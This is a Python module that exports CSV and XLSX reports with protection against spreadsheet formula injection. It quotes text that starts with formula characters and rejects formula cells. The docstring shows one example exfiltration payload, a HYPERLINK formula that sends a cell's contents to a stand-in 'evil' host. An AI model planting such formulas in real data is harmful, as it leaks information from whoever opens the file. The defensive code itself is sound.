"""Spreadsheet files the server hands out (CSV and XLSX): one writer, safe to open.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is what Excel,
LibreOffice and Google Sheets read as a formula (OWASP "CSV injection"): a name such as
`=HYPERLINK("http://evil/?"&A1)` typed into an agency or a postman's name would run on the
supervisor's computer when the report is opened. Every such text cell is prefixed with a
single quote, and XLSX cells are always written as strings, never as formulas. Numbers stay
numbers (a negative amount is a number, not text, and is left alone).

Every export goes through `csv_bytes()` / `xlsx_workbook()`+`sheet_append()`; do not write
spreadsheet cells any other way.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value to write in a cell: text that could start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Sequence[object]], bom: bool = True) -> bytes:
    """CSV (RFC 4180, CRLF) in UTF-8, with a BOM so Excel shows Vietnamese letters; None is empty."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if value is None else safe_cell(value) for value in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def sheet_append(sheet, row: Sequence[object]) -> None:
    """Append a row to an openpyxl worksheet: text is always a string cell, never a formula."""
    sheet.append([safe_cell(value) for value in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl would otherwise take a leading "=" as a formula


def xlsx_bytes(workbook) -> bytes:
    """Save a workbook after checking that no cell anywhere holds a formula."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    raise ValueError(f"formula cell {sheet.title}!{cell.coordinate} in an export")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
